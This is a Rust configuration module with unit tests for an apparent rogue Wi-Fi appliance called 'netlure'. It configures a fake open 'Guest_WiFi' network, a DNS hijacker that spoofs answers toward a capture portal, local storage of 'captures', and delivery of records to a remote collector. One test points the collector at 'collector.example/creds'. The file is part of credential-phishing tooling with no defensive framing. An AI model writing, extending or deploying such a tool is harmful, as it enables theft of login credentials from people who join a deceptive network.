use std::env;
use std::net::{Ipv4Addr, SocketAddr};
use std::path::PathBuf;
use std::str::FromStr;
use std::time::Duration;

use anyhow::{bail, Result};

use netlure_capture::DEFAULT_CAPACITY;
use netlure_dns::HijackConfig;
use netlure_portal::PortalConfig;

pub const DEFAULT_INTERFACE: &str = "wlan0";
pub const DEFAULT_PORTAL_SSID: &str = "Guest_WiFi";
pub const DEFAULT_PORTAL_ADDR: Ipv4Addr = Ipv4Addr::new(10, 42, 0, 1);
pub const DEFAULT_STATE_DIR: &str = "/var/lib/netlure";
pub const DEFAULT_JOIN_ATTEMPTS: u32 = 20;
pub const DEFAULT_JOIN_POLL_MS: u64 = 500;
pub const DEFAULT_PACING_MS: u64 = 1000;
pub const DEFAULT_AUTO_SYNC_SECS: u64 = 300;
pub const DEFAULT_SURVEY_SECS: u64 = 10;
pub const DEFAULT_HTTP_TIMEOUT_SECS: u64 = 15;

/// Appliance configuration, fixed at startup. Environment first, CLI
/// overrides second, then [`Config::validate`] before anything starts.
#[derive(Debug, Clone)]
pub struct Config {
    /// Wireless interface used for both roles.
    pub interface: String,
    /// Network name advertised while in portal mode.
    pub portal_ssid: String,
    /// WPA2 passphrase for the advertised network; `None` leaves it open.
    pub portal_passphrase: Option<String>,
    /// Address the appliance takes on the portal network. Spoofed DNS
    /// answers and probe redirects all point here.
    pub portal_addr: Ipv4Addr,
    pub portal_port: u16,
    pub dns_port: u16,
    /// Network joined for delivery passes. Empty means never configured;
    /// passes fail recoverably until it is.
    pub upstream_ssid: String,
    pub upstream_psk: Option<String>,
    /// Collector endpoint records are POSTed to. Empty disables delivery;
    /// captures then only accumulate locally.
    pub collector_url: String,
    pub state_dir: PathBuf,
    pub store_capacity: usize,
    pub join_attempts: u32,
    pub join_poll_interval: Duration,
    /// Delay between consecutive collector POSTs.
    pub record_pacing: Duration,
    pub auto_sync_interval: Duration,
    pub survey_interval: Duration,
    pub request_timeout: Duration,
    pub bind_to_device: bool,
}

impl Config {
    pub fn from_env() -> Self {
        let interface =
            env_trimmed("NETLURE_INTERFACE").unwrap_or_else(|| DEFAULT_INTERFACE.to_string());
        let portal_ssid =
            env_trimmed("NETLURE_PORTAL_SSID").unwrap_or_else(|| DEFAULT_PORTAL_SSID.to_string());
        let portal_passphrase = env_trimmed("NETLURE_PORTAL_PASSPHRASE");
        let portal_addr =
            env_parse("NETLURE_PORTAL_ADDR").unwrap_or(DEFAULT_PORTAL_ADDR);
        let portal_port = env_parse("NETLURE_PORTAL_PORT").unwrap_or(80);
        let dns_port = env_parse("NETLURE_DNS_PORT").unwrap_or(netlure_dns::DNS_PORT);
        let upstream_ssid = env_trimmed("NETLURE_UPSTREAM_SSID").unwrap_or_default();
        let upstream_psk = env_trimmed("NETLURE_UPSTREAM_PSK");
        let collector_url = env_trimmed("NETLURE_COLLECTOR_URL").unwrap_or_default();
        let state_dir = env_trimmed("NETLURE_STATE_DIR")
            .map(PathBuf::from)
            .unwrap_or_else(|| PathBuf::from(DEFAULT_STATE_DIR));
        let store_capacity =
            env_parse("NETLURE_STORE_CAPACITY").unwrap_or(DEFAULT_CAPACITY);
        let join_attempts =
            env_parse("NETLURE_JOIN_ATTEMPTS").unwrap_or(DEFAULT_JOIN_ATTEMPTS);
        let join_poll_interval = Duration::from_millis(
            env_parse("NETLURE_JOIN_POLL_MS").unwrap_or(DEFAULT_JOIN_POLL_MS),
        );
        let record_pacing =
            Duration::from_millis(env_parse("NETLURE_PACING_MS").unwrap_or(DEFAULT_PACING_MS));
        let auto_sync_interval = Duration::from_secs(
            env_parse("NETLURE_AUTO_SYNC_SECS").unwrap_or(DEFAULT_AUTO_SYNC_SECS),
        );
        let survey_interval =
            Duration::from_secs(env_parse("NETLURE_SURVEY_SECS").unwrap_or(DEFAULT_SURVEY_SECS));
        let request_timeout = Duration::from_secs(
            env_parse("NETLURE_HTTP_TIMEOUT_SECS").unwrap_or(DEFAULT_HTTP_TIMEOUT_SECS),
        );
        let bind_to_device = env_bool("NETLURE_BIND_TO_DEVICE", true);

        Self {
            interface,
            portal_ssid,
            portal_passphrase,
            portal_addr,
            portal_port,
            dns_port,
            upstream_ssid,
            upstream_psk,
            collector_url,
            state_dir,
            store_capacity,
            join_attempts,
            join_poll_interval,
            record_pacing,
            auto_sync_interval,
            survey_interval,
            request_timeout,
            bind_to_device,
        }
    }

    pub fn validate(&self) -> Result<()> {
        if self.interface.trim().is_empty() {
            bail!("interface must not be empty");
        }
        if self.portal_ssid.is_empty() {
            bail!("portal SSID must not be empty");
        }
        if self.portal_ssid.len() > 32 {
            bail!("portal SSID exceeds 32 bytes");
        }
        if let Some(pass) = &self.portal_passphrase {
            if pass.len() < 8 || pass.len() > 63 {
                bail!("portal passphrase must be 8..=63 characters");
            }
        }
        if self.portal_addr.is_unspecified() || self.portal_addr.is_broadcast() {
            bail!("portal address {} is not usable", self.portal_addr);
        }
        if self.store_capacity == 0 {
            bail!("store capacity must be non-zero");
        }
        if self.join_attempts == 0 {
            bail!("join attempts must be non-zero");
        }
        if !self.collector_url.is_empty()
            && !self.collector_url.starts_with("http://")
            && !self.collector_url.starts_with("https://")
        {
            bail!("collector URL must be http(s): {}", self.collector_url);
        }
        Ok(())
    }

    /// Portal server settings derived from the appliance config.
    pub fn portal_config(&self) -> PortalConfig {
        let mut cfg = PortalConfig::new(
            self.portal_addr,
            self.portal_port,
            self.state_dir.join("captures"),
        );
        cfg.interface = self.interface.clone();
        cfg.bind_to_device = self.bind_to_device;
        cfg
    }

    /// Name-hijacker settings derived from the appliance config.
    pub fn hijack_config(&self) -> HijackConfig {
        HijackConfig {
            interface: self.interface.clone(),
            listen: SocketAddr::from((Ipv4Addr::UNSPECIFIED, self.dns_port)),
            spoof_addr: self.portal_addr,
            bind_to_device: self.bind_to_device,
            ..HijackConfig::default()
        }
    }
}

fn env_trimmed(key: &str) -> Option<String> {
    env::var(key)
        .ok()
        .map(|value| value.trim().to_string())
        .filter(|value| !value.is_empty())
}

fn env_parse<T: FromStr>(key: &str) -> Option<T> {
    env::var(key).ok().and_then(|value| value.trim().parse().ok())
}

fn env_bool(key: &str, default: bool) -> bool {
    match env::var(key) {
        Ok(value) => value == "1" || value.eq_ignore_ascii_case("true"),
        Err(_) => default,
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Mutex;
    use std::time::Duration;

    use super::*;

    static ENV_LOCK: Mutex<()> = Mutex::new(());

    struct EnvGuard {
        vars: Vec<(String, Option<String>)>,
    }

    impl EnvGuard {
        fn new() -> Self {
            Self { vars: Vec::new() }
        }

        fn set(&mut self, key: &str, value: &str) {
            if !self.vars.iter().any(|(k, _)| k == key) {
                self.vars.push((key.to_string(), std::env::var(key).ok()));
            }
            std::env::set_var(key, value);
        }

        fn remove(&mut self, key: &str) {
            if !self.vars.iter().any(|(k, _)| k == key) {
                self.vars.push((key.to_string(), std::env::var(key).ok()));
            }
            std::env::remove_var(key);
        }
    }

    impl Drop for EnvGuard {
        fn drop(&mut self) {
            for (key, value) in self.vars.drain(..) {
                match value {
                    Some(val) => std::env::set_var(&key, val),
                    None => std::env::remove_var(&key),
                }
            }
        }
    }

    const ALL_KEYS: [&str; 18] = [
        "NETLURE_INTERFACE",
        "NETLURE_PORTAL_SSID",
        "NETLURE_PORTAL_PASSPHRASE",
        "NETLURE_PORTAL_ADDR",
        "NETLURE_PORTAL_PORT",
        "NETLURE_DNS_PORT",
        "NETLURE_UPSTREAM_SSID",
        "NETLURE_UPSTREAM_PSK",
        "NETLURE_COLLECTOR_URL",
        "NETLURE_STATE_DIR",
        "NETLURE_STORE_CAPACITY",
        "NETLURE_JOIN_ATTEMPTS",
        "NETLURE_JOIN_POLL_MS",
        "NETLURE_PACING_MS",
        "NETLURE_AUTO_SYNC_SECS",
        "NETLURE_SURVEY_SECS",
        "NETLURE_HTTP_TIMEOUT_SECS",
        "NETLURE_BIND_TO_DEVICE",
    ];

    fn clear_all(guard: &mut EnvGuard) {
        for key in ALL_KEYS {
            guard.remove(key);
        }
    }

    #[test]
    fn defaults_without_env() {
        let _lock = ENV_LOCK.lock().unwrap();
        let mut guard = EnvGuard::new();
        clear_all(&mut guard);

        let cfg = Config::from_env();
        assert_eq!(cfg.interface, DEFAULT_INTERFACE);
        assert_eq!(cfg.portal_ssid, DEFAULT_PORTAL_SSID);
        assert_eq!(cfg.portal_passphrase, None);
        assert_eq!(cfg.portal_addr, DEFAULT_PORTAL_ADDR);
        assert_eq!(cfg.portal_port, 80);
        assert_eq!(cfg.dns_port, 53);
        assert_eq!(cfg.upstream_ssid, "");
        assert_eq!(cfg.collector_url, "");
        assert_eq!(cfg.store_capacity, DEFAULT_CAPACITY);
        assert_eq!(cfg.join_attempts, DEFAULT_JOIN_ATTEMPTS);
        assert_eq!(cfg.join_poll_interval, Duration::from_millis(500));
        assert_eq!(cfg.record_pacing, Duration::from_millis(1000));
        assert_eq!(cfg.auto_sync_interval, Duration::from_secs(300));
        assert_eq!(cfg.survey_interval, Duration::from_secs(10));
        assert!(cfg.bind_to_device);
        assert!(cfg.validate().is_ok());
    }

    #[test]
    fn env_overrides_apply() {
        let _lock = ENV_LOCK.lock().unwrap();
        let mut guard = EnvGuard::new();
        clear_all(&mut guard);
        guard.set("NETLURE_INTERFACE", "wlan1");
        guard.set("NETLURE_PORTAL_SSID", "Lobby");
        guard.set("NETLURE_PORTAL_ADDR", "192.168.4.1");
        guard.set("NETLURE_STORE_CAPACITY", "25");
        guard.set("NETLURE_PACING_MS", "10");
        guard.set("NETLURE_BIND_TO_DEVICE", "0");
        guard.set("NETLURE_COLLECTOR_URL", "https://collector.example/creds");

        let cfg = Config::from_env();
        assert_eq!(cfg.interface, "wlan1");
        assert_eq!(cfg.portal_ssid, "Lobby");
        assert_eq!(cfg.portal_addr, Ipv4Addr::new(192, 168, 4, 1));
        assert_eq!(cfg.store_capacity, 25);
        assert_eq!(cfg.record_pacing, Duration::from_millis(10));
        assert!(!cfg.bind_to_device);
        assert!(cfg.validate().is_ok());
    }

    #[test]
    fn blank_or_garbage_values_fall_back() {
        let _lock = ENV_LOCK.lock().unwrap();
        let mut guard = EnvGuard::new();
        clear_all(&mut guard);
        guard.set("NETLURE_PORTAL_SSID", "   ");
        guard.set("NETLURE_PORTAL_ADDR", "not-an-address");
        guard.set("NETLURE_STORE_CAPACITY", "lots");

        let cfg = Config::from_env();
        assert_eq!(cfg.portal_ssid, DEFAULT_PORTAL_SSID);
        assert_eq!(cfg.portal_addr, DEFAULT_PORTAL_ADDR);
        assert_eq!(cfg.store_capacity, DEFAULT_CAPACITY);
    }

    #[test]
    fn validate_rejects_nonsense() {
        let _lock = ENV_LOCK.lock().unwrap();
        let mut guard = EnvGuard::new();
        clear_all(&mut guard);

        let base = Config::from_env();

        let mut cfg = base.clone();
        cfg.portal_ssid = String::new();
        assert!(cfg.validate().is_err());

        let mut cfg = base.clone();
        cfg.portal_passphrase = Some("short".to_string());
        assert!(cfg.validate().is_err());

        let mut cfg = base.clone();
        cfg.portal_addr = Ipv4Addr::UNSPECIFIED;
        assert!(cfg.validate().is_err());

        let mut cfg = base.clone();
        cfg.store_capacity = 0;
        assert!(cfg.validate().is_err());

        let mut cfg = base.clone();
        cfg.collector_url = "ftp://collector.example".to_string();
        assert!(cfg.validate().is_err());

        let mut cfg = base;
        cfg.collector_url = String::new();
        assert!(cfg.validate().is_ok());
    }

    #[test]
    fn derived_service_configs_share_the_portal_address() {
        let _lock = ENV_LOCK.lock().unwrap();
        let mut guard = EnvGuard::new();
        clear_all(&mut guard);
        guard.set("NETLURE_PORTAL_ADDR", "10.9.8.1");
        guard.set("NETLURE_DNS_PORT", "5353");

        let cfg = Config::from_env();
        let portal = cfg.portal_config();
        let hijack = cfg.hijack_config();

        assert_eq!(portal.listen_ip, Ipv4Addr::new(10, 9, 8, 1));
        assert_eq!(hijack.spoof_addr, Ipv4Addr::new(10, 9, 8, 1));
        assert_eq!(hijack.listen.port(), 5353);
        assert_eq!(hijack.ttl, 300);
        assert!(portal.capture_dir.ends_with("captures"));
    }
}
